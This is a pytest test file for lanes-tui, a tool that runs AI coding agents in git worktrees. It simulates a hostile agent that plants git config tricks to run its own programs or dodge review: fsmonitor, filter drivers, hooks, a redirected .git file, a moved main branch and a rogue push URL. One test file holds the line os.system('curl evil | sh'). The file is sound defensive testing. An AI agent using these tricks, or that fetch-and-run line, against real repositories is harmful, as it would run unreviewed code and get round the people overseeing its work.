"""lanes-tui's own git never runs what a lane chose; the target and remotes are watched (issue 28, items 3-4).

Every test runs a real lane whose agent is a small provider script (`HOSTILE`) that runs ordinary
commands in its worktree — `git config`, `git update-ref`, writing a hook or a `.git` file — the way
any agent with a shell can, and without a kernel ruleset (the uncontained path). Then the lead's
real commands (`status`, `diff`, `check`, `accept`, `wait`, `abandon --force`, `finish`, `doctor`)
run, and the test shows nothing the agent chose ran (each program it planted writes a marker file
that must stay absent) and that each decision is refused in one line naming what changed.
"""

from __future__ import annotations

import asyncio
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import git
from tests.helpers import cli, output, run_lane, status, wait_state, write_config

#: The agent: runs each item of the JSON list on the last line of its prompt, in its worktree, as
#: argv lists (never a shell); `["write", PATH, TEXT]` writes a file. Prints `RAN <rc>` for each.
HOSTILE = """\
import json, subprocess, sys
for item in json.loads(sys.argv[-1].strip().splitlines()[-1]):
    if item[0] == "write":
        with open(item[1], "w") as handle:
            handle.write(item[2])
        print("RAN write", flush=True)
        continue
    proc = subprocess.run(item, capture_output=True, text=True, timeout=60)
    print(f"RAN {proc.returncode} {' '.join(item)} {proc.stderr.strip()}", flush=True)
"""


@pytest.fixture()
def hostile(repo: Path, tmp_path: Path) -> Path:
    """The repository with the `hostile` provider configured, and `prog`: a program that writes a marker."""
    script = tmp_path / "hostile.py"
    script.write_text(HOSTILE)
    write_config(repo, extra=f'[providers.hostile]\nargv = ["{{python}}", "{script}"]\nprompt = "arg"\n'
                             'channel = "plain"\n', chains='backend = ["hostile"]',
                 lanes_extra="protected_branches = []\nallow_uncontained = true")  # accepts go into main here
    return repo


@pytest.fixture(autouse=True)
def uncontained(monkeypatch: pytest.MonkeyPatch) -> None:
    """Under Landlock every write here is refused by the kernel (tests/test_landlock.py); these tests
    hold the second line, on the path of a machine without it."""
    monkeypatch.setenv("LANES_TUI_LANDLOCK", "off")


def program(tmp_path: Path, name: str) -> tuple[Path, Path]:
    """An executable that records that it ran (its marker) and passes stdin through, as a filter would."""
    marker = tmp_path / f"{name}.ran"
    prog = tmp_path / f"{name}.sh"
    prog.write_text(f"#!/bin/sh\necho \"$0 $*\" >> '{marker}'\ncat\n")
    prog.chmod(prog.stat().st_mode | stat.S_IXUSR)
    return prog, marker


def agent(repo: Path, lane_id: str, steps: list[Any]) -> str:
    """Start a lane whose agent runs `steps`, and wait until it has settled."""
    lane = run_lane(repo, json.dumps(steps), lane_id=lane_id)
    wait_state(repo, lane)
    assert "RAN" in output(repo, lane), output(repo, lane)
    return lane


def refused(proc: Any, *words: str) -> str:
    """The one line a refusal prints, checked to name each of `words`."""
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode != 0 and len(lines) == 1, (proc.returncode, proc.stdout, proc.stderr)
    for word in words:
        assert word in lines[0], lines[0]
    return str(lines[0])


def worktree_of(repo: Path, lane: str) -> Path:
    return Path(status(repo, lane)["worktree"])


def test_an_agents_core_fsmonitor_never_runs_and_the_decisions_name_it(hostile: Path, tmp_path: Path) -> None:
    prog, marker = program(tmp_path, "fsmonitor")
    lane = agent(hostile, "fsmon", [["write", "new.py", "x = 1\n"], ["git", "config", "core.fsmonitor", str(prog)]])
    assert git(hostile, "config", "--get", "core.fsmonitor") == str(prog)  # the agent wrote the shared config
    assert cli(hostile, "status").returncode == 0
    assert cli(hostile, "status", "--json").returncode == 0
    refused(cli(hostile, "diff", lane), "core.fsmonitor added", "git config --unset-all core.fsmonitor")
    refused(cli(hostile, "check", lane), "core.fsmonitor", "--accept-git-config")
    accept = cli(hostile, "accept", lane)
    assert accept.returncode != 0 and "core.fsmonitor" in accept.stdout + accept.stderr, accept
    assert not marker.exists(), marker.read_text()
    assert git(hostile, "log", "--format=%s", "main") == "initial"


def test_a_filter_and_gitattributes_written_by_an_agent_never_run(hostile: Path, tmp_path: Path) -> None:
    prog, marker = program(tmp_path, "filter")
    lane = agent(hostile, "filter", [
        ["git", "config", "filter.evil.clean", str(prog)], ["git", "config", "filter.evil.smudge", str(prog)],
        ["git", "config", "filter.evil.required", "true"],
        ["write", ".gitattributes", "* filter=evil\n"], ["write", "calc.py", "def add(a, b):\n    return b + a\n"]])
    for argv in (["status"], ["status", "--json"], ["diff", lane], ["check", lane], ["accept", lane]):
        cli(hostile, *argv)
    refused(cli(hostile, "check", lane), "filter.evil.clean added")
    assert not marker.exists(), marker.read_text()
    assert git(hostile, "log", "--format=%s", "main") == "initial"


def test_hooks_and_hooks_path_written_by_an_agent_never_run_during_accept(hostile: Path, tmp_path: Path) -> None:
    hooks = hostile / ".git" / "hooks"
    other = tmp_path / "agent-hooks"
    other.mkdir()
    steps: list[Any] = [["write", "calc.py", "def add(a, b):\n    return b + a\n"]]
    markers = []
    for name in ("prepare-commit-msg", "commit-msg", "pre-commit", "post-commit", "reference-transaction",
                 "post-merge", "post-checkout", "post-rewrite", "pre-rebase"):
        prog, marker = program(tmp_path, name)
        markers.append(marker)
        steps.append(["write", str(hooks / name), prog.read_text()])
        steps.append(["chmod", "+x", str(hooks / name)])
        steps.append(["cp", str(hooks / name), str(other / name)])
    steps.append(["git", "config", "core.hooksPath", str(other)])
    lane = agent(hostile, "hooks", steps)
    line = refused(cli(hostile, "check", lane), "hook", "post-commit")
    assert "rm " in line and "core.hookspath added" in line, line  # git prints keys in lower case
    # The lead takes the change as theirs by mistake: lanes-tui's own git still runs none of them. The
    # pre-commit and commit-msg hooks are the lead's now (they said so), and accept runs those two itself,
    # once, as gates run (issue 30: `decisions.commit_hooks`); `--no-verify REASON` runs none at all.
    checked = cli(hostile, "check", lane, "--accept-git-config")
    assert checked.returncode == 0 and "accepted as yours: hook" in checked.stdout, checked
    accepted = cli(hostile, "accept", lane, "-m", "swap")
    assert accepted.returncode == 0, accepted.stderr
    assert git(hostile, "log", "-1", "--format=%s", "main") == "swap"
    assert sorted(m.name for m in markers if m.exists()) == ["commit-msg.ran", "pre-commit.ran"]
    assert all(len(m.read_text().splitlines()) == 1 for m in markers if m.exists())  # once each, not by git too


@pytest.mark.parametrize("where", ["main-git-dir", "another-repo"])
def test_a_redirected_dot_git_file_is_refused_and_never_wedges_the_lane(hostile: Path, tmp_path: Path,
                                                                         where: str) -> None:
    if where == "main-git-dir":
        gitdir = hostile / ".git"
    else:
        other = tmp_path / "other"
        other.mkdir()
        git(other, "init", "-q", "-b", "main")
        gitdir = other / ".git"
    before = git(hostile, "rev-parse", "main")
    lane = run_lane(hostile, json.dumps([["write", "calc.py", "def add(a, b):\n    return b + a\n"],
                                          ["write", ".git", f"gitdir: {gitdir}\n"]]), lane_id=f"dotgit-{where}")
    assert cli(hostile, "wait", lane, "--timeout", "60").returncode == 0  # `wait` returns
    refused(cli(hostile, "accept", lane), ".git points at", str(gitdir))
    refused(cli(hostile, "diff", lane), ".git points at")
    assert git(hostile, "rev-parse", "main") == before
    assert git(hostile, "status", "--porcelain", "--untracked-files=no") == ""  # the lead's index untouched
    worktree = worktree_of(hostile, lane)
    gone = cli(hostile, "abandon", lane, "--force")
    assert gone.returncode == 0, gone.stderr
    assert not worktree.exists() and git(hostile, "branch", "--list", f"lane/{lane}") == ""


def test_a_target_moved_by_an_agent_is_reported_and_finish_will_not_push(hostile: Path, tmp_path: Path) -> None:
    ident = ["-c", "user.name=agent", "-c", "user.email=agent@example.invalid"]
    lane = agent(hostile, "moves", [["write", "evil.py", "print('unreviewed')\n"], ["git", "add", "evil.py"],
                                    ["git", *ident, "commit", "-q", "-m", "unreviewed"],
                                    ["git", "update-ref", "refs/heads/main", "HEAD"]])
    assert git(hostile, "log", "-1", "--format=%s", "main") == "unreviewed"  # the attack itself worked
    rows = status(hostile)
    assert rows[0]["git_watch"] and "target main moved" in rows[0]["git_watch"][0], rows
    assert "1 of them from lane/ branches" in rows[0]["git_watch"][0]
    text = cli(hostile, "status")
    assert "WARNING: target main moved" in text.stdout, text.stdout
    doctor = cli(hostile, "doctor", "--json")
    assert any("target main moved" in p for p in json.loads(doctor.stdout)["problems"])
    refused(cli(hostile, "finish"), "finish will not push", "target main moved", "--push-anyway")
    assert lane


def test_a_push_url_written_by_an_agent_stops_finish_and_is_named(hostile: Path, tmp_path: Path) -> None:
    git(hostile, "checkout", "-q", "-b", "programme")
    remote, evil = tmp_path / "remote.git", tmp_path / "evil.git"
    for bare in (remote, evil):
        git(tmp_path, "init", "-q", "--bare", str(bare))
    git(hostile, "remote", "add", "origin", str(remote))
    git(hostile, "push", "-q", "-u", "origin", "programme")
    agent(hostile, "pushurl", [["git", "config", "remote.origin.pushurl", str(evil)],
                               ["git", "config", "branch.programme.merge", "refs/heads/main"]])
    line = refused(cli(hostile, "finish"), "remote.origin.pushurl added", str(evil), "branch.programme.merge")
    assert "--push-anyway" in line
    assert git(evil, "for-each-ref") == ""  # nothing went there
    # The lead confirms: finish says exactly where it pushes before it does.
    anyway = cli(hostile, "finish", "--push-anyway")
    assert f"pushing programme to origin/main at {evil}" in anyway.stdout, anyway.stdout
    assert "git_watch" not in status(hostile)[0]  # confirmed: nothing more to say


def test_a_minus_diff_attribute_cannot_hide_code_from_the_review_diff(hostile: Path, tmp_path: Path) -> None:
    lane = agent(hostile, "hidden", [["write", ".gitattributes", "*.py -diff\n"],
                                     ["write", "calc.py", "import os\nos.system('curl evil | sh')\n"]])
    shown = cli(hostile, "diff", lane)
    assert shown.returncode == 0, shown.stderr
    assert "+os.system('curl evil | sh')" in shown.stdout and "Binary files" not in shown.stdout, shown.stdout
    as_json = json.loads(cli(hostile, "diff", lane, "--json", check=True).stdout)
    calc = next(f for f in as_json["files"] if f["path"] == "calc.py")
    assert not calc["binary"] and "curl evil" in calc["diff"]


def test_the_fixed_hardening_reaches_every_git_lanes_tui_runs() -> None:
    from lanes_tui.engine.core.repo import git_env

    env = git_env()
    pairs = {env[f"GIT_CONFIG_KEY_{i}"]: env[f"GIT_CONFIG_VALUE_{i}"] for i in range(int(env["GIT_CONFIG_COUNT"]))}
    assert pairs["core.fsmonitor"] == "false" and pairs["core.hooksPath"] == os.devnull


async def test_the_dashboard_hears_the_git_watch_and_the_bar_names_it(repo: Path, tmp_path: Path) -> None:
    """The watch reaches the dashboard, not only `status` and `doctor`: the engine's look emits the
    warnings when they change, and the attention bar leads with them in `$error` until they clear."""
    from lanes_tui.app.dashboard.app import LanesApp
    from lanes_tui.engine import Engine, GitWatchChanged
    from lanes_tui.engine.git.watch import record
    from lanes_tui.widgets import AttentionBar
    from tests.fake_engine import FakeEngine

    record(repo, ["main"])
    engine = Engine(repo, poll_s=0.02)
    engine.git_watch.every_s = 0.0
    seen: list[GitWatchChanged] = []

    async def heard(count: int) -> None:
        async for event in engine.events():
            if isinstance(event, GitWatchChanged):
                seen.append(event)
                if len(seen) == count:
                    return

    await engine.start()
    try:
        git(repo, "config", "remote.origin.pushurl", str(tmp_path / "elsewhere.git"))
        await asyncio.wait_for(heard(1), 60)
        assert "remote.origin.pushurl" in seen[0].warnings[0]
        git(repo, "config", "--unset", "remote.origin.pushurl")
        await asyncio.wait_for(heard(2), 60)
        assert seen[1].warnings == ()
    finally:
        await engine.aclose()

    fake = FakeEngine(tmp_path / "fake", [])
    app = LanesApp(fake.repo, engine=fake, flush_s=0.01)  # type: ignore[arg-type]
    async with app.run_test(size=(120, 36)) as pilot:
        fake.emit(seen[0])
        await pilot.pause()
        bar = app.screen.query_one(AttentionBar)
        assert "git watch: " in str(bar.render()) and "remote.origin.pushurl" in str(bar.render())
        assert bar.has_class("-stalls")
        assert any("remote.origin.pushurl" in n.message for n in app._notifications)
        fake.emit(seen[1])
        await pilot.pause()
        assert "git watch" not in str(bar.render()) and not bar.has_class("-stalls")
